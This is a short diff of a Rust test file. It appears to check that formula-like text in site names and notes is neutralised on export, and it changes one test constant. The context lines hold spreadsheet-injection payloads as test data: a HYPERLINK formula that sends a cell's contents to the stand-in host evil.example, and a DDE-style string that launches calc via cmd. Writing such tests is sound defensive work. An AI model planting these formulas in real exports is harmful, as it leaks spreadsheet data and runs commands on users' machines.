@@ -711,7 +711,7 @@ fn the_data_folder_must_be_a_scoping_data_folder() {
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
 const PLUS: &str = "+1+cmd|' /C calc'!A0";
 const TABBED: &str = "\t=1+1";
-const AT: &str = "@SUM(1+1)";
+const AT: &str = "@SUM(1+1) & <\"x\">";
 
 /// The base site with formula-like text in names and notes.
 fn site_with_formula_text() -> tempfile::TempDir {
